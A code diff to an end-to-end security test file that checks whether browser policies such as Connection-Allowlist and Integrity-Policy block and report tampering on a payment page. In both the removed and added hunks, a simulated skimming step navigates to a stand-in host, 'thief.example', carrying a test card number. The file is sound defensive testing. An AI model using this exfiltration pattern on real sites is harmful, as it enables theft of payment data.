@@ -4,6 +4,7 @@ import { readFileSync } from "node:fs";
 import { Tampering } from "./support/published.ts";
 import { SecureSite } from "./support/secure.ts";
 import { expect, test } from "./support/test.ts";
+import { lacksAllowlist } from "./support/ways.ts";
 
 const tampering = new Tampering(); // of a site that goes with its test
 const CARD = "4242424242424242";
@@ -46,15 +47,7 @@ test("an attack that is blocked is reported, and what it wanted to carry away is
     await expect
       .poll(() => of("csp-hash"), { timeout: 20_000 })
       .toMatchObject({ page: pageAddress, source: `${site.fields}/${loader.file}`, hash: loader.integrity });
-    // What only Connection-Allowlist stops
-    await page.evaluate(async (card) => {
-      await new Promise((done) => setTimeout(done));
-      location.href = `https://${card}.thief.example/${card}?${card}`;
-    }, CARD);
-    await expect
-      .poll(() => of("connection-allowlist"), { timeout: 20_000 })
-      .toMatchObject({ page: pageAddress, source: "https://*.thief.example" });
-    // And only Integrity-Policy: the hash is the policy's, and what was fetched without CORS has none that counts
+    // What only Integrity-Policy stops: the hash is the policy's, and what was fetched without CORS has none that counts
     tampering.text(site.path("site/fields", frame.file), (html) => html.replace('type="module" ', "").replace(/ crossorigin(="[^"]*")?/, ""));
     await page.goto(`${site.fields}/${frame.file}`);
     await expect
@@ -63,6 +56,26 @@ test("an attack that is blocked is reported, and what it wanted to carry away is
     const all = await site.reports();
     console.log(all.map(({ type, rule, source }) => `${type} ${rule} ${source}`).join("\n"));
     expect(JSON.stringify(all)).not.toContain(CARD);
+  } finally {
+    await site.stop();
+  }
+});
+
+test("a navigation that Connection-Allowlist stops is reported", async ({ page, spare, browser }) => {
+  test.skip(lacksAllowlist(browser.version()), "this browser has no Connection-Allowlist");
+  const site = await SecureSite.start(spare);
+  try {
+    const { fields } = JSON.parse(readFileSync(site.path("site/release.json"), "utf8")) as { fields: { frame: { file: string } } };
+    const address = `${site.fields}/${fields.frame.file}`;
+    await page.goto(address);
+    await page.evaluate(async (card) => {
+      await new Promise((done) => setTimeout(done));
+      location.href = `https://${card}.thief.example/${card}?${card}`;
+    }, CARD);
+    await expect
+      .poll(async () => (await site.reports()).find(({ type }) => type === "connection-allowlist"), { timeout: 20_000 })
+      .toMatchObject({ page: address, source: "https://*.thief.example" });
+    expect(JSON.stringify(await site.reports())).not.toContain(CARD);
   } finally {
     await site.stop();
   }
